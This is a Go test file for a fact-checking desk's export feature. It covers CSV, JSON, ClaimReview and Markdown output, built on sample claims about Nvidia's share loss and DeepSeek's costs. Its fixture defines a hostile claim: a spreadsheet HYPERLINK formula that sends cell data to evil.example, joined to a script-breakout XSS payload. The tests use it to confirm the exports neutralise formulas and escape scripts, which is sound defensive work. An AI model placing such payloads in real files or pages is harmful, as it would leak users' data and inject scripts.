package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"math/rand/v2"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/factdesk/factdesk/claims"
	"github.com/factdesk/factdesk/claims/export"
	"github.com/factdesk/factdesk/claims/export/schematest"
	"github.com/factdesk/factdesk/claims/internal/desktest"
	"github.com/factdesk/factdesk/sources"
)

const bodyEN = `Nvidia lost about $900 billion of its market value in a single session. Its shares dropped by about 20%.
DeepSeek said building its model cost no more than $6 million.`

const bodyAR = `خسرت إنفيديا نحو 900 مليار دولار من قيمتها السوقية في جلسة واحدة.`

// hostile is a claim typed to run in a spreadsheet and to break out of a
// script element.
const hostile = `=HYPERLINK("http://evil.example/?q="&A1,"click")</script><script>alert(1)</script>`

// fixture is a desk with: an English article (a corrected verdict, an
// off-scale verdict, one claim waiting for review), an Arabic article with
// a published claim, a hostile claim with no article, published, and the
// English report at a public link.
type fixture struct {
	d                                   *desktest.Desk
	en, ar                              claims.Article
	loss, cost, shares, arLoss, hostile claims.Claim
	token                               string
}

func newFixture(t *testing.T) fixture {
	t.Helper()
	d := desktest.New(t)
	f := fixture{d: d}
	d.Organisation(t, claims.Organisation{Name: "Example Desk", URL: "https://desk.example.org", MethodologyEN: "We read *the filings*.",
		CorrectionsEN: "We correct openly."})
	f.en = d.Article(t, claims.NewArticle{Title: "Nvidia's *record* loss", Outlet: "The Example Daily", Author: "A. Writer", Lang: "en",
		Body: bodyEN, PublishedOn: "2025-01-28", URL: "https://news.example.com/nvidia"})
	f.ar = d.Article(t, claims.NewArticle{Title: "خسارة إنفيديا", Outlet: "صحيفة المثال", Lang: "ar", Body: bodyAR, PublishedOn: "2025-01-28"})
	f.loss = d.Claim(t, f.en.ID, claims.ClaimInput{Statement: "Nvidia lost about $900 billion", Type: "market", Claimant: "The Example Daily",
		Amount: "900000000000", Value: claims.Value{Currency: "USD", Qualifier: "about"}, ClaimDate: "2025-01-28"})
	f.shares = d.Claim(t, f.en.ID, claims.ClaimInput{Statement: "Its shares dropped by about 20%", Type: "percent", Amount: "20"})
	f.cost = d.Claim(t, f.en.ID, claims.ClaimInput{Statement: "building its model cost no more than $6 million", Type: "money", Claimant: "DeepSeek",
		Amount: "6000000", Value: claims.Value{Currency: "USD", Qualifier: "at_most"}})
	f.arLoss = d.Claim(t, f.ar.ID, claims.ClaimInput{Statement: "نحو 900 مليار دولار", Type: "market", Amount: "900000000000",
		Value: claims.Value{Currency: "USD", Qualifier: "about"}})
	f.hostile = d.Claim(t, 0, claims.ClaimInput{Statement: hostile, Claimant: "@admin", Lang: "en"})
	ev := d.Evidence(t, f.loss.ID, sources.Input{URL: "https://www.reuters.com/markets/nvidia", Title: "Nvidia loses $593 billion", Publisher: "Reuters",
		PublishedOn: "2025-01-27", ArchiveURL: "https://web.archive.org/web/2025/https://www.reuters.com/markets/nvidia", Notes: "LSEG data"},
		sources.EvidenceInput{Stance: "refutes", Passage: "a record $593 billion", Location: "paragraph 2", Note: "closing figure"})
	d.Evidence(t, f.loss.ID, sources.Input{URL: "https://www.cnbc.com/nvidia", Title: "Nearly $600 billion"}, sources.EvidenceInput{Stance: "refutes"})
	d.Evidence(t, f.arLoss.ID, sources.Input{URL: ev.Source.URL, Title: ev.Source.Title}, sources.EvidenceInput{Stance: "refutes"}) // the same source again
	d.Evidence(t, f.cost.ID, sources.Input{URL: "https://arxiv.org/abs/2412.19437", Title: "DeepSeek-V3 Technical Report", Kind: "primary"},
		sources.EvidenceInput{Stance: "context"})
	d.Evidence(t, f.shares.ID, sources.Input{URL: "https://www.cnbc.com/shares", Title: "Shares fell 17%"}, sources.EvidenceInput{})
	d.Evidence(t, f.hostile.ID, sources.Input{URL: "https://evil.example/", Title: "-1+1"}, sources.EvidenceInput{})
	usd := claims.Value{Currency: "USD"}
	d.Publish(t, f.loss.ID, desktest.Verdict{Label: "Mostly false", Conclusion: "About $600 billion, not $900 billion", Amount: "600000000000", Verified: usd})
	d.Correct(t, f.loss.ID, desktest.Verdict{Label: "Mostly false", Conclusion: "$593 billion, not $900 billion", Amount: "593000000000", Verified: usd},
		"We now use the closing figure.")
	d.Publish(t, f.cost.ID, desktest.Verdict{Label: "Unverifiable", Conclusion: "Only the final training run is costed"})
	d.Publish(t, f.arLoss.ID, desktest.Verdict{Label: "Mostly false", Conclusion: "خسرت 593 مليارًا لا 900", Amount: "593000000000", Verified: usd})
	d.Publish(t, f.hostile.ID, desktest.Verdict{Label: "False", Conclusion: "-2+3 is not a formula", Reasoning: "@SUM(A1:A2)"})
	d.Submit(t, f.shares.ID, desktest.Verdict{Label: "Mostly false", Conclusion: "17%, not 20%", Amount: "17"})
	link, err := d.Svc.PublishReport(context.Background(), d.Ed, f.en.ID, "en")
	if err != nil {
		t.Fatal(err)
	}
	f.token = link.Token
	return f
}

func (f fixture) export(t *testing.T, o export.Options) (string, export.Result) {
	t.Helper()
	if o.Lang == "" {
		o.Lang = "en"
	}
	o.Words = desktest.Words{}
	if o.Now.IsZero() {
		o.Now = time.Date(2026, 11, 28, 12, 0, 0, 0, time.UTC)
	}
	var buf bytes.Buffer
	res, err := export.Write(context.Background(), &buf, export.Desk{Claims: f.d.Svc, Evidence: f.d.EvidenceFunc(), Sources: f.d.SourcesFunc()}, o)
	if err != nil {
		t.Fatalf("export %s: %v", o.Format, err)
	}
	return buf.String(), res
}

func TestCSV(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	out, res := f.export(t, export.Options{Format: export.CSV, BaseURL: "https://desk.example.org"})
	if !strings.HasPrefix(out, "\ufeff") {
		t.Fatal("no byte order mark: Excel would not read the Arabic as UTF-8")
	}
	if strings.Count(out, "\r\n") != strings.Count(out, "\n") || !strings.HasSuffix(out, "\r\n") {
		t.Error("line ends are not all CRLF")
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 6 || res.Claims != 5 {
		t.Fatalf("%d rows, %d claims; want a header and 5 claims", len(rows), res.Claims)
	}
	if rows[0][0] != "[csv.claim_id]" || rows[0][8] != "[csv.verdict]" || len(rows[0]) != 20 {
		t.Errorf("header = %q", rows[0])
	}
	byID := map[int64][]string{}
	for _, r := range rows[1:] {
		id, _ := strconv.ParseInt(r[0], 10, 64)
		byID[id] = r
	}
	loss := byID[f.loss.ID]
	want := map[int]string{1: strconv.FormatInt(f.en.ID, 10), 2: "Nvidia's *record* loss", 3: "Nvidia lost about $900 billion", 6: "[type.market]",
		7: "[status.published]", 8: "Mostly false", 9: "2", 10: "$593 billion, not $900 billion", 11: "900,000,000,000 USD ([qualifier.about])",
		12: "900000000000", 13: "593,000,000,000 USD", 14: "593000000000", 15: "[diff.over [51.8]]", 17: "1", 18: "2",
		19: "https://desk.example.org/r/" + f.token + "#claim-" + strconv.FormatInt(f.loss.ID, 10)}
	for col, w := range want {
		if loss[col] != w {
			t.Errorf("loss column %d = %q; want %q", col, loss[col], w)
		}
	}
	if cost := byID[f.cost.ID]; cost[8] != "Unverifiable" || cost[9] != "" || cost[13] != "" {
		t.Errorf("off-scale row: verdict %q rating %q verified %q", cost[8], cost[9], cost[13])
	}
	if shares := byID[f.shares.ID]; shares[7] != "[status.in_review]" || shares[8] != "" || shares[10] != "" || shares[18] != "1" {
		t.Errorf("a verdict waiting for review leaked into the CSV: %q", shares)
	}
	if ar := byID[f.arLoss.ID]; ar[3] != "نحو 900 مليار دولار" || ar[19] != "" {
		t.Errorf("Arabic row: %q", ar)
	}
	// Formula neutralisation: every cell that starts with = + - @ is text.
	h := byID[f.hostile.ID]
	if h[3] != "'"+hostile || h[4] != "'@admin" || h[10] != "'-2+3 is not a formula" {
		t.Errorf("hostile cells not neutralised: statement %q claimant %q conclusion %q", h[3], h[4], h[10])
	}
	for _, r := range rows {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q could run as a formula", cell)
			}
		}
	}
	// Arabic labels and values, with Arabic-Indic digits in the texts and
	// plain digits in the number columns.
	out, _ = f.export(t, export.Options{Format: export.CSV, Lang: "ar", Filter: claims.Filter{ArticleID: f.ar.ID}})
	rows, _ = csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff"))).ReadAll()
	if len(rows) != 2 || rows[1][8] != "زائف في معظمه" || rows[1][13] != "٥٩٣٬٠٠٠٬٠٠٠٬٠٠٠ USD" || rows[1][14] != "593000000000" {
		t.Errorf("Arabic export: %q", rows)
	}
}

func TestNeutralise(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{"=1+1": "'=1+1", "+33 6": "'+33 6", "-5": "'-5", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx",
		"\rx": "'\rx", "": "", "plain": "plain", " =1": " =1", "صحيح": "صحيح", "'=1": "'=1"} {
		if got := export.Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q; want %q", in, got, want)
		}
	}
}

func TestJSONRoundTrip(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	out, res := f.export(t, export.Options{Format: export.JSON, BaseURL: "https://desk.example.org"})
	dec := json.NewDecoder(strings.NewReader(out))
	dec.DisallowUnknownFields()
	var doc export.Document
	if err := dec.Decode(&doc); err != nil {
		t.Fatalf("the export does not decode into export.Document: %v", err)
	}
	if doc.Format != "factdesk-export" || doc.FormatVersion != export.FormatVersion || doc.Scope.Kind != "desk" || doc.Lang != "en" ||
		doc.Desk.Name != "Example Desk" || doc.Desk.MethodologyEN != "We read *the filings*." || len(doc.Labels) != 8 {
		t.Errorf("header: %+v %+v %d labels", doc.Scope, doc.Desk, len(doc.Labels))
	}
	if len(doc.Claims) != 5 || res.Claims != 5 || len(doc.Articles) != 2 {
		t.Fatalf("%d claims, %d articles", len(doc.Claims), len(doc.Articles))
	}
	byID := map[int64]export.ClaimJSON{}
	for _, c := range doc.Claims {
		byID[c.ID] = c
	}
	// Everything about a claim comes back as stored.
	ctx := context.Background()
	for id, got := range byID {
		c, err := f.d.Svc.Claim(ctx, id)
		if err != nil {
			t.Fatal(err)
		}
		if got.Statement != c.Statement || got.Type != string(c.Type) || got.Status != string(c.Status) || got.Claimant != c.Claimant ||
			!cmp.Equal(got.Value, c.Value) || got.Version != c.Version || (c.Anchor == nil) != (got.Anchor == nil) {
			t.Errorf("claim %d: got %+v; stored %+v", id, got, c)
		}
		if c.Anchor != nil && (got.Anchor.Exact != c.Anchor.Exact || got.Anchor.Start != c.Anchor.Start || got.Anchor.End != c.Anchor.End) {
			t.Errorf("claim %d anchor: %+v; stored %+v", id, got.Anchor, c.Anchor)
		}
		vs, _ := f.d.Svc.Verdicts(ctx, id)
		if len(got.Verdicts) != len(vs) {
			t.Errorf("claim %d: %d verdict versions; stored %d", id, len(got.Verdicts), len(vs))
		}
	}
	loss := byID[f.loss.ID]
	if len(loss.Verdicts) != 2 || loss.Verdicts[0].State != "superseded" || loss.Verdicts[1].State != "approved" || loss.Verdicts[1].Corrects != 1 ||
		loss.Verdicts[1].CorrectionNote != "We now use the closing figure." || loss.Verdicts[1].ApprovedBy != "Eve Editor" ||
		loss.Verdicts[1].Difference.Kind != "over" || loss.Verdicts[1].Verified.Amount != 593e9 || loss.Verdicts[0].SupersededAt == nil {
		t.Errorf("verdict history: %+v", loss.Verdicts)
	}
	if loss.PublicURL == "" || byID[f.arLoss.ID].PublicURL != "" {
		t.Errorf("public urls: %q %q", loss.PublicURL, byID[f.arLoss.ID].PublicURL)
	}
	if shares := byID[f.shares.ID]; len(shares.Verdicts) != 1 || shares.Verdicts[0].State != "submitted" || shares.Verdicts[0].PublishedAt != nil {
		t.Errorf("the verdict in review: %+v", shares.Verdicts)
	}
	// Evidence refers to the sources list, each source once.
	sources := map[int64]export.SourceJSON{}
	for _, s := range doc.Sources {
		if _, dup := sources[s.ID]; dup {
			t.Errorf("source %d listed twice", s.ID)
		}
		sources[s.ID] = s
	}
	if len(sources) != 5 {
		t.Errorf("%d sources; want 5 (one shared by two claims)", len(sources))
	}
	for _, c := range doc.Claims {
		for _, e := range c.Evidence {
			if _, ok := sources[e.SourceID]; !ok {
				t.Errorf("claim %d cites source %d, which is not in the list", c.ID, e.SourceID)
			}
		}
	}
	if e := loss.Evidence[0]; e.Passage != "a record $593 billion" || e.Note != "closing figure" || sources[e.SourceID].ArchiveURL == "" ||
		sources[e.SourceID].Notes != "LSEG data" {
		t.Errorf("evidence %+v source %+v", e, sources[e.SourceID])
	}
	var art export.ArticleJSON
	for _, a := range doc.Articles {
		if a.ID == f.en.ID {
			art = a
		}
	}
	if art.Text != f.en.Body || art.URL != f.en.URL || art.Title != f.en.Title {
		t.Errorf("article: %+v", art)
	}
	// A filter exports the claims it selects, and only their articles.
	out, _ = f.export(t, export.Options{Format: export.JSON, Filter: claims.Filter{Status: "in_review"}})
	doc = export.Document{}
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Scope.Kind != "filter" || doc.Scope.Filter == nil || doc.Scope.Filter.Status != "in_review" || len(doc.Claims) != 1 ||
		doc.Claims[0].ID != f.shares.ID || len(doc.Articles) != 1 || len(doc.Sources) != 1 {
		t.Errorf("filtered: scope %+v, %d claims, %d articles, %d sources", doc.Scope, len(doc.Claims), len(doc.Articles), len(doc.Sources))
	}
}

func TestClaimReview(t *testing.T) {
	t.Parallel()
	vocab := schematest.Load(t)
	f := newFixture(t)
	out, res := f.export(t, export.Options{Format: export.ClaimReview, BaseURL: "https://desk.example.org"})
	var doc any
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatal(err)
	}
	if probs := vocab.Check(doc); len(probs) > 0 {
		t.Errorf("not valid schema.org:\n%s", strings.Join(probs, "\n"))
	}
	var reviews []export.ClaimReviewJSON
	if err := json.Unmarshal([]byte(out), &reviews); err != nil {
		t.Fatal(err)
	}
	if len(reviews) != 4 || res.Reviews != 4 || res.WithoutURL != 2 {
		t.Fatalf("%d reviews (%d without url); want 4 published, 2 without a public link", len(reviews), res.WithoutURL)
	}
	by := map[string]export.ClaimReviewJSON{}
	for _, r := range reviews {
		by[r.ClaimReviewed] = r
		if r.Context != "https://schema.org" || r.Type != "ClaimReview" || r.ItemReviewed.Type != "Claim" || r.DatePublished == "" ||
			r.Author == nil || r.Author.Name != "Example Desk" || r.Author.URL != "https://desk.example.org" || r.InLanguage != "en" {
			t.Errorf("review %q: %+v", r.ClaimReviewed, r)
		}
	}
	loss := by[f.loss.Statement]
	rr := loss.ReviewRating
	if rr.AlternateName != "Mostly false" || rr.RatingValue == nil || *rr.RatingValue != 2 || *rr.BestRating != 5 || *rr.WorstRating != 1 {
		t.Errorf("rating: %+v", rr)
	}
	if loss.URL != "https://desk.example.org/r/"+f.token+"#claim-"+strconv.FormatInt(f.loss.ID, 10) || loss.DateModified == "" {
		t.Errorf("url %q, dateModified %q (a correction was published)", loss.URL, loss.DateModified)
	}
	ir := loss.ItemReviewed
	if ir.Author == nil || ir.Author.Type != "Organization" || ir.Author.Name != "The Example Daily" || ir.DatePublished != "2025-01-28" ||
		ir.Appearance == nil || ir.Appearance.Type != "NewsArticle" || ir.Appearance.URL != f.en.URL || ir.Appearance.Headline != f.en.Title ||
		ir.Appearance.Author == nil || ir.Appearance.Publisher == nil {
		t.Errorf("item reviewed: %+v %+v", ir, ir.Appearance)
	}
	cost := by[f.cost.Statement]
	if cost.ReviewRating.AlternateName != "Unverifiable" || cost.ReviewRating.RatingValue != nil || cost.ReviewRating.BestRating != nil ||
		cost.ItemReviewed.Author == nil || cost.ItemReviewed.Author.Type != "Person" || !strings.HasSuffix(cost.URL, "#claim-"+strconv.FormatInt(f.cost.ID, 10)) {
		t.Errorf("off-scale review: %+v", cost)
	}
	if h := by[hostile]; h.ItemReviewed.Appearance != nil || h.ItemReviewed.Author == nil || h.ItemReviewed.Author.Name != "@admin" {
		t.Errorf("a claim without an article: %+v", h.ItemReviewed)
	}
	// In Arabic, the label readers see is the Arabic one.
	out, _ = f.export(t, export.Options{Format: export.ClaimReview, Lang: "ar", Filter: claims.Filter{ArticleID: f.ar.ID}})
	reviews = nil
	json.Unmarshal([]byte(out), &reviews)
	if len(reviews) != 1 || reviews[0].ReviewRating.AlternateName != "زائف في معظمه" || reviews[0].InLanguage != "ar" ||
		reviews[0].ItemReviewed.Author.Name != "صحيفة المثال" {
		t.Errorf("Arabic review: %+v", reviews)
	}
}

func TestScriptJSONCannotEndTheScript(t *testing.T) {
	t.Parallel()
	cr := export.NewClaimReview(export.ReviewInput{Claim: claims.Claim{Statement: hostile, Claimant: "</script>"}, Lang: "en",
		Verdict: claims.Verdict{Label: claims.Label{NameEN: "False & <b>bold</b>", Truth: 1}, PublishedAt: time.Now()}})
	b, err := export.ScriptJSON([]export.ClaimReviewJSON{cr})
	if err != nil {
		t.Fatal(err)
	}
	if bytes.ContainsAny(b, "<>&") {
		t.Errorf("unescaped <, > or & in %s", b)
	}
	var back export.ClaimReviewJSON
	if err := json.Unmarshal(b, &back); err != nil || back.ClaimReviewed != hostile || back.ReviewRating.AlternateName != "False & <b>bold</b>" {
		t.Errorf("round trip: %v %+v", err, back)
	}
}

func TestMarkdown(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	out, res := f.export(t, export.Options{Format: export.Markdown, Filter: claims.Filter{ArticleID: f.en.ID}, BaseURL: "https://desk.example.org"})
	if res.Claims != 2 {
		t.Errorf("%d published claims; want 2", res.Claims)
	}
	for _, want := range []string{
		"# Nvidia's \\*record\\* loss\n",                   // the title, escaped
		"- [field.url]: <https://news.example.com/nvidia>", // the article's address
		"- [report.public_link]: <https://desk.example.org/r/" + f.token + ">",
		"| Mostly false | 1 |", "| Unverifiable | 1 |", // the summary
		"[report.pending [1]]",                                                                          // the claim in review, only counted
		"**Nvidia lost about $900 billion** [1](#claim-1)",                                              // highlighted and numbered in the text
		"> Nvidia lost about $900 billion",                                                              // the quote
		"- [report.verdict]: **Mostly false** ([labels.truth_of [2]])",                                  // the label with its place on the scale
		"- [verdicts.difference]: \\[diff.over \\[51.8\\]\\]",                                           // the values (translations are escaped too)
		"1. [Nvidia loses $593 billion](<https://www.reuters.com/markets/nvidia>), Reuters, 2025-01-27", // a source
		"[sources.archived_copy]: <https://web.archive.org/web/2025/https://www.reuters.com/markets/nvidia>",
		"> “a record $593 billion” (paragraph 2)",
		"\\[report.was \\[Mostly false About $600 billion, not $900 billion\\]\\]", // the correction keeps the earlier version
		"[report.correction_note]: We now use the closing figure.",
		"## [report.methodology]\n\nWe read *the filings*.", // the desk's Markdown as written
	} {
		if !strings.Contains(out, want) {
			t.Errorf("Markdown lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "17%, not 20%") {
		t.Error("the verdict waiting for review is in the report")
	}
	// The whole desk: every published claim, none other.
	out, res = f.export(t, export.Options{Format: export.Markdown})
	if res.Claims != 4 || !strings.Contains(out, "\\=HYPERLINK") || strings.Contains(out, "</script>") || strings.Contains(out, "17%, not 20%") {
		t.Errorf("desk Markdown: %d claims\n%s", res.Claims, out)
	}
}

// Exports stream through as many batches as there are claims, and every
// claim comes out exactly once.
func TestExportsStreamEveryClaimOnce(t *testing.T) {
	t.Parallel()
	d := desktest.New(t)
	ctx := context.Background()
	n, err := claims.Generate(ctx, d.DB, claims.GenerateOptions{Articles: 7, Claims: 2*claims.ScanBatch + 57, Seed: 9,
		Texts: []string{bodyEN, bodyAR}, Rand: rand.New(rand.NewPCG(1, 2))})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := claims.GenerateVerdicts(ctx, d.DB, rand.New(rand.NewPCG(3, 4))); err != nil {
		t.Fatal(err)
	}
	desk := export.Desk{Claims: d.Svc, Evidence: d.EvidenceFunc(), Sources: d.SourcesFunc()}
	write := func(o export.Options) string {
		o.Words, o.Lang = desktest.Words{}, "en"
		var buf bytes.Buffer
		if _, err := export.Write(ctx, &buf, desk, o); err != nil {
			t.Fatal(err)
		}
		return buf.String()
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(write(export.Options{Format: export.CSV}), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, r := range rows[1:] {
		if seen[r[0]] {
			t.Fatalf("claim %s exported twice", r[0])
		}
		seen[r[0]] = true
	}
	if len(seen) != n {
		t.Errorf("CSV has %d claims; the desk %d", len(seen), n)
	}
	var published int64
	d.DB.Table("claims").Where("status = 'published'").Count(&published)
	var doc export.Document
	if err := json.Unmarshal([]byte(write(export.Options{Format: export.JSON, Filter: claims.Filter{Status: "published"}})), &doc); err != nil {
		t.Fatal(err)
	}
	if int64(len(doc.Claims)) != published || published == 0 {
		t.Errorf("JSON of published claims: %d; the desk has %d", len(doc.Claims), published)
	}
	for i := 1; i < len(doc.Claims); i++ {
		if doc.Claims[i].ID <= doc.Claims[i-1].ID {
			t.Fatalf("claims out of id order at %d", i)
		}
	}
	var reviews []export.ClaimReviewJSON
	if err := json.Unmarshal([]byte(write(export.Options{Format: export.ClaimReview})), &reviews); err != nil {
		t.Fatal(err)
	}
	if int64(len(reviews)) != published {
		t.Errorf("%d ClaimReviews; %d published claims", len(reviews), published)
	}
}

// failAfter is a writer that breaks after n bytes, like a client that goes
// away in the middle of a download.
type failAfter struct{ n int }

func (f *failAfter) Write(p []byte) (int, error) {
	if f.n -= len(p); f.n < 0 {
		return 0, errors.New("connection reset")
	}
	return len(p), nil
}

// A failing writer stops the export with its error, in every format.
func TestExportStopsWhenTheWriterFails(t *testing.T) {
	t.Parallel()
	d := desktest.New(t)
	ctx := context.Background()
	if _, err := claims.Generate(ctx, d.DB, claims.GenerateOptions{Articles: 3, Claims: 3 * claims.ScanBatch, Seed: 4,
		Texts: []string{bodyEN}, Rand: rand.New(rand.NewPCG(5, 6))}); err != nil {
		t.Fatal(err)
	}
	if _, err := claims.GenerateVerdicts(ctx, d.DB, rand.New(rand.NewPCG(7, 8))); err != nil {
		t.Fatal(err)
	}
	desk := export.Desk{Claims: d.Svc, Evidence: d.EvidenceFunc(), Sources: d.SourcesFunc()}
	for _, f := range export.Formats {
		_, err := export.Write(ctx, &failAfter{n: 20 << 10}, desk, export.Options{Format: f, Lang: "en", Words: desktest.Words{}})
		if err == nil || !strings.Contains(err.Error(), "connection reset") {
			t.Errorf("%s: %v; want the writer's error", f, err)
		}
	}
	cancelled, cancel := context.WithCancel(ctx)
	cancel()
	if _, err := export.Write(cancelled, io.Discard, desk, export.Options{Format: export.CSV, Lang: "en", Words: desktest.Words{}}); !errors.Is(err, context.Canceled) {
		t.Errorf("a cancelled export: %v", err)
	}
}

func TestOptions(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 11, 28, 0, 0, 0, 0, time.UTC)
	for _, tt := range []struct {
		o     export.Options
		scope string
		name  string
	}{
		{export.Options{Format: export.CSV, Now: now}, "desk", "factdesk-desk-2026-11-28.csv"},
		{export.Options{Format: export.ClaimReview, Filter: claims.Filter{ArticleID: 12}, Now: now}, "article", "factdesk-article-12-2026-11-28.jsonld"},
		{export.Options{Format: export.Markdown, Filter: claims.Filter{ArticleID: 12, Status: "published"}, Now: now}, "filter", "factdesk-claims-2026-11-28.md"},
	} {
		if got := tt.o.Scope(); got != tt.scope {
			t.Errorf("%+v: scope %q; want %q", tt.o.Filter, got, tt.scope)
		}
		if got := tt.o.FileName(); got != tt.name {
			t.Errorf("%+v: file name %q; want %q", tt.o.Filter, got, tt.name)
		}
	}
	for _, bad := range []export.Options{{Format: "xml", Lang: "en", Words: desktest.Words{}}, {Format: export.CSV, Lang: "fr", Words: desktest.Words{}},
		{Format: export.CSV, Lang: "en", Words: desktest.Words{}, Filter: claims.Filter{Status: "bogus"}}, {Format: export.CSV, Lang: "en"}} {
		if err := export.Check(&bad); err == nil {
			t.Errorf("Check(%+v) accepted", bad)
		}
	}
	if f, err := export.ParseFormat("md"); err != nil || f.ContentType() != "text/markdown; charset=utf-8" || f.Ext() != "md" {
		t.Errorf("md: %v %q", err, f.ContentType())
	}
}
